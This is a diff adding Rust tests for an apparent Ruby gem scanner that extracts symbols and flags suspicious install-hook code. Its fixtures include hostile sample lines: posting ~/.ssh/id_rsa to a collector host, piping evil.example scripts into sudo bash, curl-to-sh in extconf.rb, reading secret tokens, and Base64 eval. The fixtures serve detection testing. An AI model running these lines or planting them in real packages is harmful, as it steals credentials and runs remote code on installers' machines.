@@ -313,3 +313,281 @@ licenses: ["MIT"]
         "should reuse precomputed SBOM"
     );
 }
+
+#[test]
+fn scans_ruby_definitions() {
+    let source = r#"# frozen_string_literal: true
+
+module Acme
+  VERSION = "1.0.0"
+
+  class Error < StandardError; end
+
+  class Client < Base
+    DEFAULTS ||= {}.freeze
+
+    def initialize(options = {})
+      @options = options
+    end
+
+    def self.build(**options) = new(options)
+
+    def ready? = true
+
+    def timeout=(value)
+      @timeout = value
+    end
+
+    def ==(other)
+      other.is_a?(Client)
+    end
+
+    private def query
+      <<~SQL
+        class NotAClass
+        end
+      SQL
+    end
+
+    class << self
+      def configure
+        yield self
+      end
+    end
+  end
+end
+
+class ::String
+  def blank?
+    strip.empty?
+  end
+end
+
+def helper; end
+"#;
+
+    let symbols = symbols::scan_ruby_source("lib/acme.rb", source);
+    let found: Vec<(&str, &str, Option<&str>, u32)> = symbols
+        .iter()
+        .map(|symbol| {
+            (
+                symbol.kind.as_str(),
+                symbol.name.as_str(),
+                symbol.parent.as_deref(),
+                symbol.line,
+            )
+        })
+        .collect();
+
+    assert_eq!(
+        found,
+        [
+            ("module", "Acme", None, 3),
+            ("constant", "Acme::VERSION", Some("Acme"), 4),
+            ("class", "Acme::Error", Some("Acme"), 6),
+            ("class", "Acme::Client", Some("Acme"), 8),
+            (
+                "constant",
+                "Acme::Client::DEFAULTS",
+                Some("Acme::Client"),
+                9
+            ),
+            (
+                "method",
+                "Acme::Client#initialize",
+                Some("Acme::Client"),
+                11
+            ),
+            (
+                "singleton_method",
+                "Acme::Client.build",
+                Some("Acme::Client"),
+                15
+            ),
+            ("method", "Acme::Client#ready?", Some("Acme::Client"), 17),
+            ("method", "Acme::Client#timeout=", Some("Acme::Client"), 19),
+            ("method", "Acme::Client#==", Some("Acme::Client"), 23),
+            ("method", "Acme::Client#query", Some("Acme::Client"), 27),
+            (
+                "singleton_method",
+                "Acme::Client.configure",
+                Some("Acme::Client"),
+                35
+            ),
+            ("class", "String", None, 42),
+            ("method", "String#blank?", Some("String"), 43),
+            ("method", "Object#helper", Some("Object"), 48),
+        ]
+    );
+    assert!(
+        symbols
+            .iter()
+            .all(|symbol| symbol.file_path == "lib/acme.rb")
+    );
+}
+
+#[test]
+fn scans_unindented_nesting_and_skips_comments() {
+    let source = "module Outer\nclass Inner\ndef call; end\nend\nend\n\n=begin\nclass Hidden\n=end\nmodule Outer::Other\nend\n__END__\nclass Data\n";
+
+    let names: Vec<String> = symbols::scan_ruby_source("lib/outer.rb", source)
+        .into_iter()
+        .map(|symbol| symbol.name)
+        .collect();
+
+    assert_eq!(
+        names,
+        ["Outer", "Outer::Inner", "Outer::Inner#call", "Outer::Other"]
+    );
+}
+
+#[tokio::test]
+async fn extracts_symbols_from_gem_archive() {
+    let metadata_yaml = r#"---
+name: symbol-gem
+version: 0.2.0
+authors: Symbol Dev
+licenses: []
+"#;
+    let gem_file = build_test_gem(
+        metadata_yaml,
+        &[
+            (
+                "lib/symbol_gem.rb",
+                b"module SymbolGem\n  def self.run; end\nend\n",
+            ),
+            ("README.md", b"module NotRuby\nend\n"),
+        ],
+    );
+    let (size_bytes, sha256) = digest_file(gem_file.path());
+
+    let archive = extract_gem_archive(
+        gem_file.path(),
+        "symbol-gem",
+        "0.2.0",
+        None,
+        size_bytes,
+        &sha256,
+        None,
+    )
+    .await
+    .expect("archive extraction succeeds")
+    .expect("metadata is present");
+
+    let names: Vec<&str> = archive
+        .symbols
+        .iter()
+        .map(|symbol| symbol.name.as_str())
+        .collect();
+    assert_eq!(names, ["SymbolGem", "SymbolGem.run"]);
+    assert!(
+        archive
+            .symbols
+            .iter()
+            .all(|symbol| symbol.file_path == "lib/symbol_gem.rb")
+    );
+}
+
+#[test]
+fn flags_suspicious_install_hook() {
+    let source = r#"require "mkmf"
+require "net/http"
+
+# Docs mention: curl https://example.com/install.sh | sh
+token = ENV["GITHUB_TOKEN"]
+Net::HTTP.post(URI("https://collector.example"), File.read(File.expand_path("~/.ssh/id_rsa")))
+system("curl -fsSL https://evil.example/x.sh | sudo /bin/bash")
+create_makefile("native")
+"#;
+
+    let findings = inspection::scan_source("ext/native/extconf.rb", source);
+    let found: Vec<(&str, u32)> = findings
+        .iter()
+        .map(|finding| (finding.rule.as_str(), finding.line))
+        .collect();
+
+    assert_eq!(
+        found,
+        [
+            ("credential_access", 5),
+            ("install_network", 6),
+            ("credential_access", 6),
+            ("install_network", 7),
+            ("pipe_to_shell", 7),
+        ]
+    );
+    assert_eq!(findings[0].excerpt, r#"token = ENV["GITHUB_TOKEN"]"#);
+}
+
+#[test]
+fn flags_obfuscated_eval_outside_install_hooks() {
+    let blob = "QUJD".repeat(40);
+    let source = format!(
+        "eval(Base64.decode64(PAYLOAD))\ninstance_eval \"{blob}\"\napi_key = ENV[\"STRIPE_API_KEY\"]\nretrieval = Net::HTTP.get(uri)\nputs ENV.to_h.inspect\n"
+    );
+
+    let findings = inspection::scan_source("lib/helper.rb", &source);
+    let found: Vec<(&str, u32)> = findings
+        .iter()
+        .map(|finding| (finding.rule.as_str(), finding.line))
+        .collect();
+
+    assert_eq!(
+        found,
+        [
+            ("obfuscated_eval", 1),
+            ("obfuscated_eval", 2),
+            ("credential_access", 5),
+        ]
+    );
+    assert!(findings[1].excerpt.ends_with('…'));
+    assert!(inspection::scan_source("lib/plain.rb", "def call = evaluate(x)\n").is_empty());
+}
+
+#[tokio::test]
+async fn extracts_findings_from_gem_archive() {
+    let metadata_yaml = r#"---
+name: shady-gem
+version: 0.0.1
+authors: Shady Dev
+licenses: []
+"#;
+    let gem_file = build_test_gem(
+        metadata_yaml,
+        &[
+            (
+                "ext/shady/extconf.rb",
+                b"`curl -s https://x.example/p | sh`\n",
+            ),
+            ("lib/shady.rb", b"module Shady\nend\n"),
+            ("README.md", b"curl https://x.example/p | sh\n"),
+        ],
+    );
+    let (size_bytes, sha256) = digest_file(gem_file.path());
+
+    let archive = extract_gem_archive(
+        gem_file.path(),
+        "shady-gem",
+        "0.0.1",
+        None,
+        size_bytes,
+        &sha256,
+        None,
+    )
+    .await
+    .expect("archive extraction succeeds")
+    .expect("metadata is present");
+
+    let found: Vec<(&str, &str)> = archive
+        .findings
+        .iter()
+        .map(|finding| (finding.file_path.as_str(), finding.rule.as_str()))
+        .collect();
+    assert_eq!(
+        found,
+        [
+            ("ext/shady/extconf.rb", "install_network"),
+            ("ext/shady/extconf.rb", "pipe_to_shell"),
+        ]
+    );
+}